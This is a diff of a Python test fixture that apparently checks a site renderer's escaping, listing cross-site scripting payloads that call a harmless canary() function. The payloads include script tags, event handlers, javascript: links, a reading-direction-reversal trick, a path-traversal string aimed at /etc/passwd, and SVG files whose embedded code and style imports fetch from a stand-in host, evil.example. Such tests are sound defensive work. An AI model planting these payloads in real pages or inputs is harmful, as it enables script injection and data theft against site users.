@@ -10,7 +10,7 @@ from tests.real.kit.campaign import ROOT
 
 #: What every payload calls, if it runs.
 CANARY = "canary"
-#: Where each would break out of: text, an attribute in double, single or no quotes, a title, a script, a data block, a comment, a style.
+#: Each breaks out of something: text, an attribute in whatever quotes, a title, a script, a data block, a comment.
 MARKUP = (
     "<script>canary()</script>",
     '"><img src=x onerror=canary()>',
@@ -36,7 +36,7 @@ MARKUP = (
 #: Marks that turn the reading direction of what follows; only posts may have them.
 TURNING = "\u202egnp.elif\u2066 \u2067<b>canary()</b>"
 _LINKS = (
-    "https://www.example.org/\"><script>canary()</script>",
+    'https://www.example.org/"><script>canary()</script>',
     "https://www.example.org/'onmouseover='canary()'x='",
     "https://www.example.org/?q=javascript:canary()&a=<b>&amp;lt;",
     "HTTPS://www.example.org/../../%2e%2e/..;/etc/passwd#</script><script>canary()</script>",
@@ -45,22 +45,26 @@ _LINKS = (
 _FINE = "logo&quot;><script>canary()<.script>.png"
 _FILES = ("wide<img src=x onerror=canary()>.png", "square';canary();'.png")
 
-_SVG = """<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 200 80" onload="canary()">
-{inside}<rect x="10" y="10" width="180" height="60" rx="12" fill="#0b5c6b" onclick="canary()"/></svg>"""
+_SVG = """<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
+viewBox="0 0 200 80" onload="canary()">{inside}
+<rect x="10" y="10" width="180" height="60" rx="12" fill="#0b5c6b" onclick="canary()"/></svg>"""
 #: Drawings that would run, call or read something; each has a rectangle to see.
 DRAWINGS: Mapping[str, str] = {
     "script.svg": _SVG.format(inside="<script>parent.canary();fetch('https://evil.example/s')</script>"),
     "foreign.svg": _SVG.format(
         inside='<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml">'
-        '<img src="x" onerror="parent.canary()"/><iframe src="javascript:parent.canary()"/></body></foreignObject>'
+        '<img src="x" onerror="parent.canary()"/><iframe src="javascript:parent.canary()"/>'
+        "</body></foreignObject>"
     ),
     "calls.svg": _SVG.format(
         inside="<style>@import 'https://evil.example/i.css'; rect {{ background: url(https://evil.example/u) }}</style>"
-        '<image href="https://evil.example/p.png" width="9" height="9"/><use href="https://evil.example/x.svg#a"/>'
+        '<image href="https://evil.example/p.png" width="9" height="9"/>'
+        '<use href="https://evil.example/x.svg#a"/>'
     ),
     "link.svg": _SVG.format(
         inside='<a xlink:href="javascript:canary()"><text y="20">go</text></a>'
-        '<animate attributeName="onload" to="canary()" begin="0s"/><set attributeName="href" to="javascript:canary()"/>'
+        '<animate attributeName="onload" to="canary()" begin="0s"/>'
+        '<set attributeName="href" to="javascript:canary()"/>'
     ),
     "name\" onload=canary() '.svg": _SVG.format(inside="<title>&lt;/title&gt;&lt;script&gt;canary()</title>"),
 }
@@ -98,7 +102,10 @@ def _campaign() -> dict[str, object]:
             "disclaimer": every,
         },
         "handles": {"@OpenWells": {"name": MARKUP[0], "x": "OpenWells"}},
-        "graphics": {"campaign": {"files": [_FILES[0]], "alt": every}, "second": {"file": _FILES[1], "alt": MARKUP[6]}},
+        "graphics": {
+            "campaign": {"files": [_FILES[0]], "alt": every},
+            "second": {"file": _FILES[1], "alt": MARKUP[6]},
+        },
         "partners": [
             {
                 "id": f"evil-{number}",
